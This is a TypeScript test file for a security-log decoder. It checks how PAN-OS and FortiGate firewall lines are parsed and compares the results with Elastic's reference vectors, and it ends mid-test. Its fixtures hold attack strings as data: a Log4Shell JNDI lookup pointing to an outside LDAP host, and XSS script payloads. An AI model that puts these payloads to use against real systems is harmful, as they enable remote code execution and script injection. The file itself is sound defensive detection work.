// panos-threat and fortigate: the Elastic panw/panos and fortinet_fortigate test
// vectors compared with the peer (an explicit list of deliberate differences; any
// other difference fails), hand-written lines as the products write them (alert
// subtypes, traffic/event logs, syslog headers, zones, IPv6), bad input, and that
// neither decoder takes the other formats' lines.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { isDeepStrictEqual } from 'node:util';
import { panosThreat, splitPanosCsv } from '../src/decoders/panos.js';
import { fortigate, parseFortigateKv } from '../src/decoders/fortigate.js';
import { decodeRecord } from '../src/decoders/index.js';
import { MAX_FIELD_CHARS, field } from '../src/decoders/fields.js';
import type { DecodeContext, Decoder, RawRecord } from '../src/decoders/types.js';
import type { NormalizedEvent } from '../src/model/event.js';
import { CTX, jsonRecord, loadExpected, ok, peerIp, peerMs, readFixture, fixturesSkip } from './fixtures-helpers.js';

function text(value: string, source = 'test'): RawRecord {
  return { kind: 'text', value, origin: { source, line: 1 } };
}

function decodeWith(d: Decoder, line: string, ctx: DecodeContext = CTX): NormalizedEvent {
  assert.equal(d.accepts(text(line), ctx), true, `${d.name} should accept: ${line.slice(0, 120)}`);
  return ok(d.decode(text(line), ctx));
}

function rejected(d: Decoder, line: string, reason: string, ctx: DecodeContext = CTX): string {
  const r = d.decode(text(line), ctx);
  assert.equal(r.ok, false, `expected a rejection for ${line.slice(0, 100)}`);
  if (r.ok) return '';
  assert.equal(r.error.reason, reason, r.error.message);
  return r.error.message;
}

// --- Peer comparison for text-line fixtures -----------------------------------

/** Our value of a compared field (observer.name is compared with the peer's observer.hostname for PAN-OS). */
type Getter = (e: NormalizedEvent, at: number) => unknown;
interface Compare {
  name: string;
  ours: Getter;
  peer: (doc: Record<string, unknown>) => unknown;
}

interface Diff {
  index: number;
  field: string;
  ours: unknown;
  peer: unknown;
}

interface Listed extends Diff {
  reason: string;
}

const COMMON: Compare[] = [
  { name: 'source.ip', ours: (e) => e.source?.ip, peer: (d) => peerIp(d) },
  { name: 'event.outcome', ours: (e) => e.event.outcome, peer: (d) => field(d, 'event.outcome') },
  { name: 'event.action', ours: (e) => e.event.action, peer: (d) => field(d, 'event.action') },
  { name: '@timestamp', ours: (_e, at) => at, peer: (d) => peerMs(d) },
  { name: 'destination.ip', ours: (e) => e.destination?.ip, peer: (d) => field(d, 'destination.ip') },
  { name: 'source.port', ours: (e) => e.source?.port, peer: (d) => field(d, 'source.port') },
  { name: 'destination.port', ours: (e) => e.destination?.port, peer: (d) => field(d, 'destination.port') },
  { name: 'event.kind', ours: (e) => e.event.kind, peer: (d) => field(d, 'event.kind') },
  { name: 'event.category', ours: (e) => e.event.category, peer: (d) => field(d, 'event.category') },
  { name: 'event.type', ours: (e) => e.event.type, peer: (d) => field(d, 'event.type') },
  { name: 'event.severity', ours: (e) => e.event.severity, peer: (d) => field(d, 'event.severity') },
  { name: 'rule.name', ours: (e) => e.rule?.name, peer: (d) => field(d, 'rule.name') },
  { name: 'rule.id', ours: (e) => e.rule?.id, peer: (d) => field(d, 'rule.id') },
  { name: 'network.transport', ours: (e) => e.network?.transport, peer: (d) => field(d, 'network.transport') },
  { name: 'observer.vendor', ours: (e) => e.observer?.vendor, peer: (d) => field(d, 'observer.vendor') },
  { name: 'observer.product', ours: (e) => e.observer?.product, peer: (d) => field(d, 'observer.product') },
];

function compareTextFixture(folder: string, file: string, decoder: Decoder, compares: Compare[], ctx: DecodeContext) {
  const lines = readFixture(folder, file).split('\n').filter((l) => l.trim() !== '');
  const expected = loadExpected(folder, file);
  assert.ok(expected, `${folder}/${file}: no expected file`);
  assert.equal(lines.length, expected.length);
  const diffs: Diff[] = [];
  let agreements = 0;
  lines.forEach((line, index) => {
    const record = text(line, `${folder}/${file}`);
    const d = decodeRecord(record, ctx);
    assert.equal(d.decoder, decoder.name, `${file}[${index}] taken by ${d.decoder}`);
    const e = ok(d.result);
    assert.equal(field(expected[index]!, 'event.original'), line, 'the peer document belongs to this line');
    const at = d.result.ok ? d.result.event.at.ms : NaN;
    let agree = true;
    for (const c of compares) {
      const ours = c.ours(e, at);
      const peer = c.peer(expected[index]!);
      if (!isDeepStrictEqual(ours, peer)) {
        agree = false;
        diffs.push({ index, field: c.name, ours, peer });
      }
    }
    if (agree) agreements++;
  });
  return { records: lines.length, agreements, diffs };
}

function withoutReasons(list: Listed[]): Diff[] {
  return list.map(({ index, field: f, ours, peer }) => ({ index, field: f, ours, peer }));
}

// --- PAN-OS -----------------------------------------------------------------

const PANW = 'panw-panos';
const PANW_FILE = 'test-panw-panos-threat-url-no-xff-sample.log';

// Where crosswatch deliberately differs from the peer on the PAN-OS vector (zone +09:30, as the peer's config).
const PANW_KNOWN: Listed[] = [
  {
    index: 0, field: 'source.ip', ours: '175.16.199.1', peer: '192.168.15.224',
    reason: 'source.ip is the threat side, the correlation key: for URL filtering that is the web server the user was sent to (an AiTM phishing server signs in from its own address); the peer keeps the session client',
  },
  { index: 0, field: 'destination.ip', ours: '192.168.15.224', peer: '175.16.199.1', reason: 'the other side of the swap above' },
  { index: 0, field: 'source.port', ours: 443, peer: 52984, reason: 'ports follow their addresses in the swap' },
  { index: 0, field: 'destination.port', ours: 52984, peer: 443, reason: 'ports follow their addresses in the swap' },
  {
    index: 0, field: 'event.kind', ours: 'event', peer: 'alert',
    reason: 'an informational URL-filtering entry (action alert, category Web-URL-Allowlist) is a browsing log, not a threat: role other, counted, never correlated',
  },
  { index: 0, field: 'event.category', ours: ['network'], peer: ['intrusion_detection', 'threat', 'network'], reason: 'follows event.kind: not an intrusion detection' },
  {
    index: 0, field: 'rule.name', ours: 'URL-filtering', peer: 'new_outbound_from_trust',
    reason: 'crosswatch rule.* is the signature (the threat name, as for IDS alerts); the peer puts the security policy name there',
  },
  { index: 0, field: 'rule.id', ours: '9999', peer: undefined, reason: 'the threat id (9999 = URL filtering); the peer has it under panw.panos.threat.id' },
];

const PANW_COMPARES: Compare[] = [
  ...COMMON,
  { name: 'observer.name', ours: (e) => e.observer?.name, peer: (d) => field(d, 'observer.hostname') },
  { name: 'rule.category', ours: (e) => e.rule?.category, peer: (d) => field(d, 'panw.panos.url.category') },
];

test('panos fixture: agrees with the peer (zone +09:30 as its config) except the listed differences', { skip: fixturesSkip() }, (t) => {
  const cmp = compareTextFixture(PANW, PANW_FILE, panosThreat, PANW_COMPARES, { ...CTX, zone: '+09:30' });
  assert.deepEqual(cmp.diffs, withoutReasons(PANW_KNOWN));
  t.diagnostic(`${PANW}: ${cmp.records} record(s), ${cmp.agreements} fully agreeing, ${cmp.diffs.length} listed differences on ${PANW_COMPARES.length} compared fields`);
});

test('panos fixture: zone-less generated time is UTC by default, the configured zone otherwise', { skip: fixturesSkip() }, () => {
  const line = readFixture(PANW, PANW_FILE).split('\n')[0]!;
  assert.equal(decodeWith(panosThreat, line)['@timestamp'], '2018-11-30T16:44:36.000Z');
  assert.equal(decodeWith(panosThreat, line, { ...CTX, zone: '+09:30' })['@timestamp'], '2018-11-30T07:14:36.000Z');
  assert.equal(decodeWith(panosThreat, line, { ...CTX, zone: 'America/Chicago' })['@timestamp'], '2018-11-30T22:44:36.000Z');
  const e = decodeWith(panosThreat, line);
  assert.equal(e.event.id, '012801096514:7726');
  assert.equal(e.event.dataset, 'panw.panos');
  assert.equal(e.crosswatch.role, 'other');
  assert.equal(e.crosswatch.category, 'THREAT/url');
});

// A PAN-OS 10.x THREAT entry, position by position (see the Threat Log Fields table).
function panosThreatLine(o: {
  subtype: string; src: string; dst: string; sport?: string; dport?: string; action: string; misc: string;
  threatId: string; category?: string; severity: string; direction: string; proto?: string; seq?: string;
  threatCategory?: string; generated?: string; device?: string; app?: string;
}): string {
  const f: string[] = [
    '1', '2024/05/01 12:00:01', '013201001234', 'THREAT', o.subtype, '2561', o.generated ?? '2024/05/01 12:00:00',
    o.src, o.dst, '0.0.0.0', '0.0.0.0', 'edge-policy', '', '', o.app ?? 'web-browsing', 'vsys1', 'untrust', 'dmz',
    'ethernet1/1', 'ethernet1/2', 'fwd-all', '2024/05/01 12:00:01', '183726', '1', o.sport ?? '51515', o.dport ?? '443',
    '0', '0', '0x2000', o.proto ?? 'tcp', o.action, o.misc, o.threatId, o.category ?? 'any', o.severity, o.direction,
    o.seq ?? '7365012345', '0x2000000000000000', 'Germany', '10.0.0.0-10.255.255.255', '0', '', '0', '', '', '0', '',
    '', '', '', '', '', '', '0', '0', '0', '0', '0', '', o.device ?? 'PA-3220', '', '', '', '', '0', '', '0', '', 'N/A',
    o.threatCategory ?? 'N/A', 'AppThreat-8798-8421', '0x0', '0', '4294967295', '', '', '', '', '',
  ];
  return f.join(',');
}

const VULN = panosThreatLine({
  subtype: 'vulnerability', src: '81.2.69.192', dst: '10.1.2.3', action: 'reset-both',
  misc: '"index.php?q=${jndi:ldap://81.2.69.192:1389/a},x=""y"""',
  threatId: 'Apache Log4j Remote Code Execution Vulnerability(91991)', severity: 'critical',
  direction: 'client-to-server', threatCategory: 'code-execution',
});

test('panos vulnerability: bare, RFC 3164 (with and without PRI / host) and RFC 5424 headers give one event', () => {
  const variants = [
    VULN,
    `<14>May  1 12:00:01 PA-3220 ${VULN}`,
    `May  1 12:00:01 PA-3220 ${VULN}`,
    `<14>May  1 12:00:01 ${VULN}`,
    `<14>1 2024-05-01T12:00:01+02:00 PA-3220 - - - - ${VULN}`,
  ];
  for (const line of variants) {
    assert.equal(decodeRecord(text(line), CTX).decoder, 'panos-threat', line.slice(0, 60));
    const e = decodeWith(panosThreat, line);
    assert.equal(e['@timestamp'], '2024-05-01T12:00:00.000Z');
    assert.equal(e.crosswatch.role, 'network_alert');
    assert.equal(e.event.kind, 'alert');
    assert.deepEqual(e.event.category, ['intrusion_detection', 'threat', 'network']);
    assert.equal(e.event.action, 'exploit_detected');
    assert.equal(e.event.outcome, 'failure');
    assert.deepEqual(e.event.type, ['denied']);
    assert.equal(e.event.severity, 1);
    assert.deepEqual(e.source, { ip: '81.2.69.192', port: 51515 });
    assert.deepEqual(e.destination, { ip: '10.1.2.3', port: 443 });
    assert.deepEqual(e.rule, { name: 'Apache Log4j Remote Code Execution Vulnerability', id: '91991', category: 'code-execution' });
    assert.deepEqual(e.observer, { vendor: 'Palo Alto Networks', product: 'PAN-OS', type: 'firewall', name: 'PA-3220' });
    assert.deepEqual(e.network, { transport: 'tcp' });
    assert.equal(e.event.id, '013201001234:7365012345');
  }
});

test('panos: the syslog host names the observer when the entry has no device name', () => {
  const line = panosThreatLine({ subtype: 'scan', src: '81.2.69.194', dst: '10.1.2.3', action: 'drop', misc: '', threatId: 'TCP Port Scan(8001)', severity: 'critical', direction: 'client-to-server', device: '' });
  const e = decodeWith(panosThreat, `<14>May  1 12:00:01 fw-branch-7 ${line}`);
  assert.equal(e.observer?.name, 'fw-branch-7');
  assert.equal(e.event.action, 'scan_detected');
  assert.equal(e.crosswatch.role, 'network_alert');
});

test('panos spyware / virus server-to-client: the server is the threat side (source.ip)', () => {
  const spy = decodeWith(panosThreat, panosThreatLine({
    subtype: 'spyware', src: '10.1.2.3', dst: '185.220.101.5', sport: '50111', dport: '443', action: 'reset-both', misc: '',
    threatId: 'Cobalt Strike.Gen Command and Control Traffic(86246)', severity: 'critical', direction: 'server-to-client', threatCategory: 'command-and-control',
  }));
  assert.equal(spy.crosswatch.role, 'network_alert');
  assert.equal(spy.event.action, 'spyware_detected');
  assert.deepEqual(spy.source, { ip: '185.220.101.5', port: 443 });
  assert.deepEqual(spy.destination, { ip: '10.1.2.3', port: 50111 });

  const virus = decodeWith(panosThreat, panosThreatLine({
    subtype: 'virus', src: '10.1.2.3', dst: '45.33.32.156', dport: '80', action: 'reset-both', misc: 'eicar.com',
    threatId: 'Eicar Test File(100000)', severity: 'medium', direction: 'server-to-client', app: 'web-browsing',
  }));
  assert.equal(virus.crosswatch.role, 'network_alert');
  assert.equal(virus.event.action, 'virus_detected');
  assert.equal(virus.source?.ip, '45.33.32.156');
  assert.equal(virus.rule?.name, 'Eicar Test File');
  assert.equal(virus.event.severity, 3);
});

test('panos alert rules per subtype (documented in docs/formats.md)', () => {
  const cases: Array<[Partial<Parameters<typeof panosThreatLine>[0]>, 'network_alert' | 'other']> = [
    [{ subtype: 'url', action: 'alert', severity: 'informational', category: 'computer-and-internet-info' }, 'other'],
    [{ subtype: 'url', action: 'block-url', severity: 'informational', category: 'gambling' }, 'network_alert'],
    [{ subtype: 'url', action: 'alert', severity: 'informational', category: '"phishing,high-risk"' }, 'network_alert'],
    [{ subtype: 'url', action: 'alert', severity: 'medium', category: 'questionable' }, 'network_alert'],
    [{ subtype: 'file', action: 'alert', severity: 'low' }, 'other'],
    [{ subtype: 'file', action: 'deny', severity: 'medium' }, 'network_alert'],
    [{ subtype: 'wildfire', action: 'allow', severity: 'informational' }, 'other'],
    [{ subtype: 'wildfire', action: 'allow', severity: 'high' }, 'network_alert'],
    [{ subtype: 'wildfire-virus', action: 'reset-both', severity: 'high' }, 'network_alert'],
    [{ subtype: 'data', action: 'alert', severity: 'high' }, 'other'],
    [{ subtype: 'flood', action: 'drop', severity: 'critical' }, 'network_alert'],
    [{ subtype: 'packet', action: 'drop', severity: 'low' }, 'network_alert'],
    [{ subtype: 'vulnerability', action: 'alert', severity: 'informational' }, 'network_alert'],
  ];
  for (const [o, role] of cases) {
    const line = panosThreatLine({ src: '10.1.2.3', dst: '81.2.69.195', misc: 'example.org/x', threatId: '(9999)', direction: 'client-to-server', ...o } as Parameters<typeof panosThreatLine>[0]);
    const e = decodeWith(panosThreat, line);
    assert.equal(e.crosswatch.role, role, JSON.stringify(o));
    assert.equal(e.event.kind, role === 'network_alert' ? 'alert' : 'event');
    if (o.subtype === 'url') assert.equal(e.source?.ip, '81.2.69.195', 'URL filtering: the server is the threat side');
    if (o.subtype === 'url') assert.equal(e.rule?.category, o.category?.replace(/"/g, ''));
  }
});

test('panos IPv6 and ISO generated time', () => {
  const e = decodeWith(panosThreat, panosThreatLine({
    subtype: 'vulnerability', src: '2A02:CF40:0:0::1', dst: '2001:67c:1234::10', action: 'alert', misc: '', threatId: 'SSH User Authentication Brute Force Attempt(40015)',
    severity: 'high', direction: 'client-to-server', generated: '2024-05-01T12:00:00.123+02:00',
  }));
  assert.equal(e.source?.ip, '2a02:cf40::1');
  assert.equal(e.destination?.ip, '2001:67c:1234::10');
  assert.equal(e['@timestamp'], '2024-05-01T10:00:00.123Z');
  assert.equal(e.event.severity, 2);
  assert.deepEqual(e.event.type, ['allowed']);
  assert.equal(e.event.outcome, 'success');
});

const TRAFFIC = '1,2024/05/01 12:00:01,013201001234,TRAFFIC,end,2561,2024/05/01 12:00:00,10.1.2.3,81.2.69.192,198.18.0.1,81.2.69.192,allow-out,,,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,fwd-all,2024/05/01 12:00:01,183727,1,51612,443,40001,443,0x400053,tcp,allow,6042,1720,4322,24,2024/05/01 11:59:44,16,computer-and-internet-info,0,7365012399,0x0,10.0.0.0-10.255.255.255,Germany,0,12,12,tcp-fin,0,0,0,0,,PA-3220,from-policy,,,0,,0,,N/A,0,0,0,0,b0f1c1de-1e1b-4f1d-9a7c-1c2d3e4f5a6b,0,0,,,,,,,';
const SYSTEM = '1,2024/05/01 12:00:01,013201001234,SYSTEM,auth,2561,2024/05/01 12:00:00,,auth-success,,0,0,general,informational,"User admin logged in via Web from 10.0.0.9, using https",7365012400,0x0,0,0,0,0,,PA-3220';

test('panos TRAFFIC, SYSTEM and CONFIG entries are role other, decoded minimally', () => {
  const t = decodeWith(panosThreat, `<14>May  1 12:00:01 PA-3220 ${TRAFFIC}`);
  assert.equal(t.crosswatch.role, 'other');
  assert.equal(t.event.kind, 'event');
  assert.equal(t.event.action, 'flow_terminated');
  assert.deepEqual(t.event.type, ['allowed', 'end', 'connection']);
  assert.equal(t.source?.ip, '10.1.2.3');
  assert.equal(t.destination?.ip, '81.2.69.192');
  assert.equal(t.rule, undefined);
  assert.equal(t['@timestamp'], '2024-05-01T12:00:00.000Z');

  const s = decodeWith(panosThreat, SYSTEM);
  assert.equal(s.crosswatch.role, 'other');
  assert.equal(s.source, undefined);
  assert.equal(s.crosswatch.category, 'SYSTEM');

  const c = decodeWith(panosThreat, '1,2024/05/01 12:00:01,013201001234,CONFIG,0,2561,2024/05/01 12:00:00,10.0.0.9,,set,admin,Web,Succeeded,deviceconfig system,7365012401,0x0,,,,,,PA-3220');
  assert.equal(c.crosswatch.role, 'other');
});

test('panos bad input: truncated lines, wrong column counts, unbalanced quotes, bad times, huge fields', () => {
  const cut = VULN.split(',').slice(0, 20).join(',');
  assert.match(rejected(panosThreat, cut, 'invalid-field'), /THREAT line has 20 fields, expected at least 36/);
  assert.match(rejected(panosThreat, TRAFFIC.split(',').slice(0, 25).join(','), 'invalid-field'), /TRAFFIC line has 25 fields/);
  assert.match(rejected(panosThreat, '1,2024/05/01 12:00:01,013201001234,SYSTEM,auth', 'invalid-field'), /SYSTEM line has 5 fields/);
  // A line cut inside a quoted field.
  const q = VULN.indexOf('"index.php');
  assert.match(rejected(panosThreat, VULN.slice(0, q + 20), 'invalid-field'), /unbalanced quote/);
  assert.match(rejected(panosThreat, VULN.replace('"index.php', '"index"x.php'), 'invalid-field'), /after the quoted CSV field/);
  // Impossible generated time.
  assert.match(rejected(panosThreat, VULN.replace(',2024/05/01 12:00:00,81.2', ',2024/13/45 99:00:00,81.2'), 'invalid-time'), /generated time is not a time/);
  // An empty generated time falls back to the receive time.
  assert.equal(decodeWith(panosThreat, VULN.replace(',2024/05/01 12:00:00,81.2', ',,81.2'))['@timestamp'], '2024-05-01T12:00:01.000Z');
  // Not an IP is no IP, not an error.
  const noIp = decodeWith(panosThreat, VULN.replace(',81.2.69.192,10.1.2.3,', ',Unknown,10.1.2.3,'));
  assert.equal(noIp.source?.ip, undefined);
  assert.equal(noIp.crosswatch.role, 'network_alert');
  // Huge fields: bounded; a huge line is too large.
  const longName = 'A'.repeat(5000);
  const big = decodeWith(panosThreat, VULN.replace('Apache Log4j Remote Code Execution Vulnerability', longName));
  assert.equal(big.rule?.name?.length, MAX_FIELD_CHARS);
  rejected(panosThreat, VULN.replace('index.php', 'x'.repeat(70_000)), 'record-too-large');
  // Attacker strings are data.
  const html = decodeWith(panosThreat, VULN.replace('Apache Log4j Remote Code Execution Vulnerability', '<script>alert(1)</script>${7*7}'));
  assert.equal(html.rule?.name, '<script>alert(1)</script>${7*7}');
});

test('panos CSV splitter: quotes, doubled quotes, empty fields', () => {
  assert.deepEqual(splitPanosCsv('a,"b,c",,"d""e"'), { ok: true, fields: ['a', 'b,c', '', 'd"e'] });
  assert.deepEqual(splitPanosCsv('a,'), { ok: true, fields: ['a', ''] });
  assert.equal(splitPanosCsv('a,"b').ok, false);
});

// --- FortiGate ---------------------------------------------------------------

const FGT = 'fortinet-fortigate';
const FGT_FILE = 'test-fortinet-fix.log';

const FGT_KNOWN: Listed[] = [
  {
    index: 0, field: '@timestamp', ours: Date.parse('2026-03-17T07:45:09.096Z'), peer: Date.parse('2026-03-31T12:48:26Z'),
    reason: 'crosswatch takes eventtime (epoch ns, zone-free, when the event happened); the peer takes date+time+tz and keeps eventtime as event.start. Real devices write both alike; this vector\'s two disagree by 14 days',
  },
  {
    index: 0, field: 'event.kind', ours: 'alert', peer: 'event',
    reason: 'an IPS detection is a network alert in crosswatch (as the peer itself does for Suricata and PAN-OS THREAT)',
  },
  { index: 0, field: 'event.category', ours: ['network', 'intrusion_detection'], peer: ['network'], reason: 'follows event.kind, as suricata-eve' },
  { index: 0, field: 'event.type', ours: ['allowed'], peer: undefined, reason: 'action "detected" (monitor mode) let the traffic through; the peer maps only pass/passthrough and block/blocked' },
  { index: 0, field: 'event.severity', ours: 2, peer: undefined, reason: 'IPS severity "high" as a number (1 = most severe, as PAN-OS and Suricata); the peer sets none' },
  { index: 0, field: 'rule.name', ours: 'HTTP.X-Forwarded-For.Header.XSS', peer: undefined, reason: 'rule.* is the signature (attack); the peer keeps it in fortinet.firewall.attack' },
  { index: 0, field: 'rule.id', ours: '55823', peer: '11', reason: 'the signature id (attackid); the peer puts the firewall policy id there' },
  { index: 0, field: 'observer.product', ours: 'FortiGate', peer: 'Fortigate', reason: 'the product\'s own spelling' },
];

const FGT_COMPARES: Compare[] = [
  ...COMMON,
  { name: 'observer.name', ours: (e) => e.observer?.name, peer: (d) => field(d, 'observer.name') },
  { name: 'event.code', ours: (e) => e.event.code, peer: (d) => field(d, 'event.code') },
  { name: 'network.protocol', ours: (e) => e.network?.protocol, peer: (d) => field(d, 'network.protocol') },
];

test('fortigate fixture: agrees with the peer except the listed differences', { skip: fixturesSkip() }, (t) => {
  const cmp = compareTextFixture(FGT, FGT_FILE, fortigate, FGT_COMPARES, CTX);
  assert.deepEqual(cmp.diffs, withoutReasons(FGT_KNOWN));
  t.diagnostic(`${FGT}: ${cmp.records} record(s), ${cmp.agreements} fully agreeing, ${cmp.diffs.length} listed differences on ${FGT_COMPARES.length} compared fields`);
});

test('fortigate fixture: nanosecond eventtime kept, escaped quotes and HTML are data', { skip: fixturesSkip() }, () => {
  const line = readFixture(FGT, FGT_FILE).split('\n')[0]!;
  const e = decodeWith(fortigate, line);
  assert.equal(e['@timestamp'], '2026-03-17T07:45:09.096718719Z');
  assert.equal(e.crosswatch.role, 'network_alert');
  assert.equal(e.crosswatch.category, 'utm/ips');
  assert.equal(e.event.dataset, 'fortinet_fortigate.log');
  const p = parseFortigateKv(line.slice('<185>'.length));
  assert.ok(p.ok);
  if (p.ok) {
    assert.equal(p.pairs.get('forwardedfor'), 'abcd0e.xff"></script><script>alert(document.domain);</script>');
    assert.equal(p.pairs.get('crlevel'), 'high');
    assert.equal(p.pairs.get('devname'), 'MYDEV');
  }
  // Without eventtime: date + time in tz -0500 (the peer's @timestamp).
  const noEt = decodeWith(fortigate, line.replace(' eventtime=1773733509096718719', ''));
  assert.equal(noEt['@timestamp'], '2026-03-31T12:48:26.000Z');
});

const FGT_HEAD = 'date=2024-05-01 time=12:00:00 devname="FGT-EDGE" devid="FG100FTK19000001"';
const FGT_IPS = `${FGT_HEAD} eventtime=1714557600123456789 tz="+0200" logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" vd="root" severity="critical" srcip=81.2.69.192 srcport=40000 srccountry="Germany" dstip=10.1.2.3 dstport=443 srcintf="wan1" srcintfrole="wan" dstintf="dmz" dstintfrole="dmz" sessionid=998877 action="dropped" proto=6 service="HTTPS" policyid=5 poluuid="5d9a0e3c-1b2f-51ee-6a8b-4c3e2d1f0a9b" policytype="policy" attack="Apache.Log4j.Error.Log.Remote.Code.Execution" direction="outgoing" attackid=51006 profile="default" ref="http://www.fortinet.com/ids/VID51006" incidentserialno=184559012 msg="applications3: Apache.Log4j.Error.Log.Remote.Code.Execution," crscore=50 craction=4096 crlevel="critical"`;
const FGT_ANOMALY = `${FGT_HEAD} logid="0720018432" type="anomaly" subtype="anomaly" level="alert" vd="root" eventtime=1714557600 tz="+0200" severity="critical" srcip=81.2.69.193 srccountry="Germany" dstip=10.1.2.3 srcintf="wan1" srcintfrole="wan" sessionid=0 action="clear_session" proto=6 service="tcp/8080" count=1903 attack="tcp_syn_flood" srcport=1234 dstport=8080 attackid=100663396 policyid=1 policytype="DoS-policy" ref="http://www.fortinet.com/ids/VID100663396" msg="anomaly: tcp_syn_flood, 2001 > threshold 2000, repeats 1903 times" crscore=50 craction=4096 crlevel="critical"`;
const FGT_VIRUS = `${FGT_HEAD} logid="0211008192" type="utm" subtype="virus" eventtype="infected" level="warning" vd="root" eventtime=1714557600123456 tz="+0200" msg="File is infected." action="blocked" service="HTTP" sessionid=998878 srcip=10.1.2.3 dstip=45.33.32.156 srcport=51000 dstport=80 srcintf="lan" srcintfrole="lan" dstintf="wan1" dstintfrole="wan" policyid=3 proto=6 direction="incoming" filename="eicar.com" quarskip="File-was-not-quarantined" virus="EICAR_TEST_FILE" viruscat="Virus" dtype="av-engine" ref="http://www.fortinet.com/ve?vn=EICAR_TEST_FILE" virusid=2172 url="http://45.33.32.156/eicar.com" profile="default" agent="curl/8.5.0" analyticscksum="275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f" analyticssubmit="false" crscore=50 craction=2 crlevel="critical"`;
const FGT_VIRUS_ANALYTICS = FGT_VIRUS.replace('eventtype="infected"', 'eventtype="analytics"').replace('action="blocked"', 'action="monitored"').replace(/ virus="[^"]*"/, '');
const FGT_WEB_PHISH = `${FGT_HEAD} logid="0316013056" type="utm" subtype="webfilter" eventtype="ftgd_blk" level="warning" vd="root" eventtime=1714557600123 tz="+02:00" policyid=3 sessionid=998879 srcip=10.1.2.3 srcport=52000 srcintf="lan" srcintfrole="lan" dstip=91.198.174.192 dstport=443 dstintf="wan1" dstintfrole="wan" proto=6 service="HTTPS" hostname="login-micros0ft-online.example" profile="default" action="blocked" reqtype="direct" url="https://login-micros0ft-online.example/common/oauth2" sentbyte=517 rcvdbyte=0 direction="outgoing" msg="URL belongs to a denied category in policy" method="domain" cat=61 catdesc="Phishing" crscore=30 craction=4194304 crlevel="high"`;
const FGT_WEB_OK = FGT_WEB_PHISH.replace('eventtype="ftgd_blk"', 'eventtype="ftgd_allow"').replace('level="warning"', 'level="notice"').replace('action="blocked"', 'action="passthrough"').replace('cat=61 catdesc="Phishing"', 'cat=52 catdesc="Information Technology"').replace('msg="URL belongs to a denied category in policy"', 'msg="URL belongs to an allowed category in policy"');
const FGT_APP_BOTNET = `${FGT_HEAD} logid="1059028704" type="utm" subtype="app-ctrl" eventtype="signature" level="warning" vd="root" eventtime=1714557600123456789 tz="+0200" appid=107347980 srcip=10.1.2.4 srcport=53000 dstip=185.100.87.41 dstport=443 srcintf="lan" dstintf="wan1" proto=6 service="HTTPS" direction="outgoing" policyid=3 sessionid=998880 applist="default" action="block" appcat="Botnet" app="Emotet.Botnet" hostname="185.100.87.41" incidentserialno=184559013 msg="Botnet: Emotet.Botnet" apprisk="critical"`;
const FGT_APP_OK = FGT_APP_BOTNET.replace('appcat="Botnet" app="Emotet.Botnet"', 'appcat="Social.Media" app="Facebook"').replace('action="block"', 'action="pass"').replace('apprisk="critical"', 'apprisk="medium"').replace('msg="Botnet: Emotet.Botnet"', 'msg="Social.Media: Facebook"');
const FGT_TRAFFIC = `${FGT_HEAD} logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" eventtime=1714557600123456789 tz="+0200" srcip=10.1.2.3 srcport=53001 srcintf="lan" srcintfrole="lan" dstip=81.2.69.192 dstport=443 dstintf="wan1" dstintfrole="wan" srccountry="Reserved" dstcountry="Germany" sessionid=998881 proto=6 action="close" policyid=3 policytype="policy" service="HTTPS" trandisp="snat" transip=198.18.0.1 transport=53001 duration=12 sentbyte=2942 rcvdbyte=12589 sentpkt=21 rcvdpkt=28 appcat="unscanned"`;
const FGT_EVENT = `${FGT_HEAD} logid="0100032001" type="event" subtype="system" level="information" vd="root" eventtime=1714557600123456789 tz="+0200" logdesc="Admin login successful" sn="1714557600" user="admin" ui="https(10.0.0.9)" method="https" srcip=10.0.0.9 dstip=10.0.0.1 action="login" status="success" reason="none" profile="super_admin" msg="Administrator admin logged in successfully from https(10.0.0.9)"`;

test('fortigate IPS: RFC 3164, RFC 5424, PRI-only and bare lines give one event', () => {
  const variants = [
    FGT_IPS,
    `<189>${FGT_IPS}`,
    `May  1 12:00:00 fgt-edge.example.net ${FGT_IPS}`,
    `<189>May  1 12:00:00 fgt-edge ${FGT_IPS}`,
    `<189>1 2024-05-01T12:00:00+02:00 fgt-edge - - - - ${FGT_IPS}`,
  ];
  for (const line of variants) {
    assert.equal(decodeRecord(text(line), CTX).decoder, 'fortigate', line.slice(0, 60));
    const e = decodeWith(fortigate, line);
    assert.equal(e['@timestamp'], '2024-05-01T10:00:00.123456789Z');
    assert.equal(e.crosswatch.role, 'network_alert');
    assert.equal(e.event.kind, 'alert');
    assert.equal(e.event.action, 'signature');
    assert.deepEqual(e.event.type, ['denied']);
    assert.equal(e.event.severity, 1);
    assert.deepEqual(e.source, { ip: '81.2.69.192', port: 40000 });
    assert.deepEqual(e.destination, { ip: '10.1.2.3', port: 443 });
    assert.deepEqual(e.rule, { name: 'Apache.Log4j.Error.Log.Remote.Code.Execution', id: '51006' });
    assert.deepEqual(e.observer, { vendor: 'Fortinet', product: 'FortiGate', type: 'firewall', name: 'FGT-EDGE' });
    assert.deepEqual(e.network, { transport: 'tcp', protocol: 'https' });
  }
});

test('fortigate time: eventtime in s/ms/µs/ns, else date+time in tz (several spellings), the device zone, or UTC', () => {
  const base = FGT_IPS.replace(' eventtime=1714557600123456789', '');
  const cases: Array<[string, DecodeContext, string]> = [
    [FGT_IPS.replace('1714557600123456789', '1714557600'), CTX, '2024-05-01T10:00:00.000Z'],
    [FGT_IPS.replace('1714557600123456789', '1714557600123'), CTX, '2024-05-01T10:00:00.123Z'],
    [FGT_IPS.replace('1714557600123456789', '1714557600123456'), CTX, '2024-05-01T10:00:00.123456Z'],
    [base, CTX, '2024-05-01T10:00:00.000Z'],
    [base.replace('tz="+0200"', 'tz="+02:00"'), CTX, '2024-05-01T10:00:00.000Z'],
    [base.replace('tz="+0200"', 'tz="UTC+2:00"'), CTX, '2024-05-01T10:00:00.000Z'],
    [base.replace('tz="+0200"', 'tz="-0500"'), CTX, '2024-05-01T17:00:00.000Z'],
    [base.replace('tz="+0200"', 'tz="Europe/Berlin"'), CTX, '2024-05-01T10:00:00.000Z'],
    [base.replace(' tz="+0200"', ''), CTX, '2024-05-01T12:00:00.000Z'],
    [base.replace(' tz="+0200"', ''), { ...CTX, zone: '+09:30' }, '2024-05-01T02:30:00.000Z'],
    // A written tz wins over the configured zone.
